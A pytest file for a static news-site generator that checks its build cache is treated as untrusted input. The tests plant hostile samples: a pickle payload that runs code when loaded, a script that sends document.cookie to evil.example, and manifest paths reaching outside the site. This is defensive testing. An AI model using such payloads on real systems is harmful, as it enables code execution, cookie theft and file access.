"""A cache is untrusted input: what is damaged, foreign or crafted in it is discarded and made again.

Each test builds a real site once (which fills the cache folder), damages the real cache
files the way a copied CI cache, a full disk or a hostile pull request would, builds the
same content again into a new output folder, and checks that the build says at most one
line about it, exits 0 (a damaged cache is not the journalist's error), and writes exactly
the bytes a build with an empty cache writes.
"""

from __future__ import annotations

import pickle
import random
import re
import sqlite3
from dataclasses import dataclass
from pathlib import Path

import pytest
from support.builds import article_text, run_newsdesk, tree_digest, write_conf


@dataclass
class Site:
    root: Path
    content: Path
    conf: Path
    cache: Path
    clean: dict[str, str]  # the output of a build from an empty cache

    def build(self, name: str, *extra: str) -> tuple[Path, str]:
        """Build into a new output folder; return it and what the build printed."""
        output = self.root / name
        result = run_newsdesk("build", "--settings", str(self.conf), "--input", str(self.content),
                              "--output", str(output), *extra)  # fmt: skip
        assert result.returncode == 0, result.stderr
        assert "Traceback" not in result.stderr
        return output, result.stderr


@pytest.fixture
def site(make_site, tmp_path: Path) -> Site:
    bodies = {
        f"articles/story-{i}.md": article_text(f"Story number {i}", date=f"2026-11-{10 + i} 09:30", Tags=tag)
        .replace("First paragraph of the story.", f"Story {i} opens with {word} and more {word}.")
        for i, (tag, word) in enumerate([("chips", "wafers"), ("chips, cloud", "fabs"), ("cloud", "outages"),
                                         ("security", "breaches"), ("security, cloud", "patches"), ("law", "courts")])
    }  # fmt: skip
    content = make_site(bodies)
    cache = tmp_path / "cache"
    site = Site(tmp_path, content, write_conf(tmp_path, CACHE_PATH=str(cache)), cache, {})
    clean_conf = write_conf(tmp_path, CACHE_PATH=str(tmp_path / "clean-cache"))
    result = run_newsdesk("build", "--settings", str(clean_conf), "--input", str(content),
                          "--output", str(tmp_path / "clean"))  # fmt: skip
    assert result.returncode == 0, result.stderr
    site.clean = tree_digest(tmp_path / "clean")
    site.build("first")  # fills the cache folder
    return site


def notices(stderr: str) -> list[str]:
    """The lines a build printed about its cache (``engine.keyed.notice``)."""
    return [line for line in stderr.splitlines() if line.startswith("WARNING: Cache ")]


class Payload:
    """A pickle that, when loaded, leaves a file behind: proof that loading ran code."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple:
        return (Path.write_text, (self.marker, "the cache ran code"))


def test_a_crafted_pickle_in_the_related_memo_runs_nothing(site: Site) -> None:
    marker = site.root / "ran"
    crafted = pickle.dumps(Payload(marker))
    (site.cache / "related-memo.pickle").write_bytes(crafted)  # where builds used to keep the memo
    for path in site.cache.glob("related-memo*"):
        path.write_bytes(crafted)
    output, stderr = site.build("again")
    assert not marker.exists()
    assert tree_digest(output) == site.clean
    assert len(notices(stderr)) <= 1


def test_a_crafted_pickle_in_the_checked_front_matter_runs_nothing(site: Site) -> None:
    marker = site.root / "ran"
    with sqlite3.connect(site.cache / "newsroom-readings.sqlite3") as db:
        columns = [row[1] for row in db.execute("PRAGMA table_info(reading)")]
        data = columns[1]  # the value column, after the key
        db.execute(f"UPDATE reading SET {data} = ?", (pickle.dumps(Payload(marker)),))
    output, stderr = site.build("again")
    assert not marker.exists()
    assert tree_digest(output) == site.clean
    assert len(notices(stderr)) <= 1


def test_a_script_written_into_the_body_cache_is_never_published(site: Site) -> None:
    script = "<script>fetch('https://evil.example/'+document.cookie)</script>"
    with sqlite3.connect(site.cache / "newsroom-bodies.sqlite3") as db:
        db.execute("UPDATE body SET html = html || ?", (script,))
    output, stderr = site.build("again")
    published = b"".join(p.read_bytes() for p in output.rglob("*") if p.is_file())
    assert b"evil.example" not in published
    assert tree_digest(output) == site.clean
    assert len(notices(stderr)) <= 1


@pytest.mark.parametrize("damage", ["AAAA", "random"])
def test_damaged_bytes_in_the_feed_cache_are_never_published(site: Site, damage: str) -> None:
    path = site.cache / "feeds-pieces.sqlite3"
    raw = bytearray(path.read_bytes())
    at = raw.index(b"Story number 3")
    raw[at : at + 64] = b"A" * 64 if damage == "AAAA" else random.Random(7).randbytes(64)
    path.write_bytes(bytes(raw))
    output, stderr = site.build("again")
    assert b"A" * 64 not in b"".join(p.read_bytes() for p in (output / "feeds").rglob("*") if p.is_file())
    assert tree_digest(output) == site.clean
    assert len(notices(stderr)) <= 1


def cache_files(cache: Path) -> list[Path]:
    return sorted(p for p in cache.rglob("*") if p.is_file() and not p.name.endswith(".lock"))


@pytest.mark.parametrize("workers", [False, True], ids=["in-process", "workers"])
def test_every_cache_file_damaged_anywhere_is_only_made_again(site: Site, workers: bool) -> None:
    """64 random bytes at the start, the middle and near the end of every file in the cache folder; also
    with the related lists and the feeds made in forked workers, which read and keep caches themselves."""
    if workers:  # the settings are part of every page's fingerprint: the clean build gets them too
        forked = {"RELATED_WORKER_FROM": 1, "FEEDS_WORKER_FROM": 1}
        site.conf = write_conf(site.root, CACHE_PATH=str(site.root / "clean-forked-cache"), **forked)
        site.clean = tree_digest(site.build("clean-forked")[0])
        site.conf = write_conf(site.root, CACHE_PATH=str(site.cache), **forked)
    files = cache_files(site.cache)
    names = {p.name for p in files}
    assert {"newsroom-bodies.sqlite3", "feeds-pieces.sqlite3", "related-counts.sqlite3", "index.html"} <= names
    rng = random.Random(19)
    for n, where in enumerate(["start", "middle", "end"]):
        for path in cache_files(site.cache):
            raw = bytearray(path.read_bytes())
            at = {"start": 0, "middle": len(raw) // 2, "end": max(0, len(raw) - 80)}[where]
            raw[at : at + 64] = rng.randbytes(64)
            path.write_bytes(bytes(raw))
        output, stderr = site.build(f"again-{n}")
        assert tree_digest(output) == site.clean, where
        assert len(notices(stderr)) <= len(files), where  # at most a line per damaged file
    # and once made again, the cache serves the next build without a word
    output, stderr = site.build("last")
    assert tree_digest(output) == site.clean and notices(stderr) == []


def test_a_cache_entry_moved_under_another_key_is_not_used(site: Site) -> None:
    """Each entry's checksum covers its key: a valid body copied over another story's is foreign."""
    with sqlite3.connect(site.cache / "newsroom-bodies.sqlite3") as db:
        rows = db.execute("SELECT * FROM body ORDER BY key").fetchall()
        assert len(rows) >= 2
        (_, *values), (second, *_) = rows[0], rows[1]
        marks = ",".join("?" * len(values))
        db.execute("DELETE FROM body WHERE key = ?", (second,))
        db.execute(f"INSERT INTO body VALUES (?, {marks})", (second, *values))
    output, _ = site.build("again")
    assert tree_digest(output) == site.clean


def test_a_damaged_search_document_is_written_again(site: Site) -> None:
    document = next((site.cache / "search-documents").rglob("index.html"))
    text = document.read_text(encoding="utf-8")
    document.write_text(re.sub(r"Story \d opens", "Forged words opens", text), encoding="utf-8")
    output, _ = site.build("again")
    assert tree_digest(output) == site.clean


def beside(root: Path) -> list[str]:
    """What is in the folder around the site, but the build's own staging, previous and lock folders."""
    return sorted(p.name for p in root.iterdir() if not p.name.startswith(".live."))


@pytest.mark.parametrize("how", ["in place", "publish"])
def test_a_crafted_reuse_manifest_cannot_reach_outside_the_site(site: Site, how: str) -> None:
    """The live site's manifest says which files a page produced; a path out of the site is never one of them."""
    secret = site.root / "secret.txt"
    secret.write_text("private key", encoding="utf-8")
    live, _ = site.build("live")
    manifest = live / ".newsdesk-manifest.json"
    text = manifest.read_text(encoding="utf-8")
    outside = f'"index.html","../secret.txt","{secret}"'  # by a relative and by an absolute path
    crafted = text.replace('"files":["index.html"]', f'"files":[{outside}]')
    assert crafted != text
    manifest.write_text(crafted, encoding="utf-8")
    around = beside(site.root)
    _, stderr = site.build("live", *(["--verify"] if how == "publish" else []))
    assert secret.read_text(encoding="utf-8") == "private key"
    assert beside(site.root) == around
    published = {k: v for k, v in tree_digest(live).items() if k != ".newsdesk-verified"}
    assert published == site.clean
    assert len(notices(stderr)) <= 1


def test_a_folder_where_a_cache_file_should_be_only_means_nothing_is_kept(site: Site) -> None:
    for path in cache_files(site.cache):
        if path.parent == site.cache or path.name.startswith(".newsdesk-"):
            path.unlink()
            path.mkdir()  # never removed: it is not the build's to delete
    output, stderr = site.build("again")
    assert tree_digest(output) == site.clean
    assert all((site.cache / name).is_dir() for name in ("newsroom-bodies.sqlite3", "related-memo.json"))
    assert 0 < len(notices(stderr)) <= 10


def test_a_cache_path_that_is_a_file_only_means_nothing_is_kept(site: Site) -> None:
    blocked = site.root / "not-a-folder"
    blocked.write_text("a file where the cache folder should be", encoding="utf-8")
    site.conf = write_conf(site.root, CACHE_PATH=str(blocked))
    output, stderr = site.build("again")
    assert blocked.read_text(encoding="utf-8").startswith("a file")
    # the search documents go to a temporary folder then, and Pagefind numbers pages in the order the
    # folder lists them, which differs between file systems: its bundle (and so the manifest) may differ
    same = {k: v for k, v in tree_digest(output).items() if not k.startswith(("pagefind/", ".newsdesk-manifest"))}
    assert same == {k: v for k, v in site.clean.items() if not k.startswith(("pagefind/", ".newsdesk-manifest"))}
    assert 0 < len(notices(stderr)) <= 11  # at most a line per cache file or folder
